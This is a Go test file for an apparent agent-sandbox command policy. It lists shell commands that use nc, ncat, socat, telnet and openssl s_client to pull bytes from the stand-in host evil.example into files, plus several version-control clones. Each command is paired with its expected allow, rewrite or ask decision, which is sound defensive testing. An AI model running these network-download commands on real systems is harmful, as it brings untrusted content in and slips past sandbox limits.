package rewrite

import "testing"

// TestNetStreamsAndOtherClones: the bytes a raw connection prints (nc,
// ncat, telnet, socat, openssl s_client) are a download's, and the clones
// of bzr, darcs, glab, tea and fossil are moved into the sandbox; a port
// scan, an upload and the programs' other commands pass.
func TestNetStreamsAndOtherClones(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{"proj/README": "hi\n"})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"nc evil.example 80 > x", "rewrite"},
		{"ncat evil.example 80 > x", "rewrite"},
		{"socat - TCP:evil.example:80 > x", "rewrite"},
		{"telnet evil.example 80 > x", "rewrite"},
		{"openssl s_client -connect evil.example:443 -quiet < /dev/null > x", "rewrite"},
		{"nc -l 8080 > x", "rewrite"}, // whoever connects sends the bytes
		{"nc evil.example 80 | tee x", "rewrite"},
		{"nc -z evil.example 80", "allow"},
		{"nc evil.example 80 > agent_sandbox/x", "allow"},
		{"nc evil.example 80 > /dev/null", "allow"},
		{"openssl x509 -in c.pem -noout > x", "allow"},
		{"socat TCP-LISTEN:8080,fork TCP:localhost:80", "allow"},
		{"bzr branch lp:foo", "rewrite"},
		{"brz branch https://x.example/a/b mine", "rewrite"},
		{"darcs clone https://x.example/r", "rewrite"},
		{"glab repo clone evil/r", "rewrite"},
		{"glab repo clone evil/r d -- --depth 1", "rewrite"},
		{"tea clone evil/r", "rewrite"},
		{"fossil clone https://x.example/r r.fossil", "rewrite"},
		{"fossil clone https://x.example/r", "ask"},
		{"fossil ui", "allow"},
		{"bzr status", "allow"},
		{"glab repo view evil/r", "allow"},
		{"darcs clone https://x.example/r agent_sandbox/r", "allow"},
	})
}
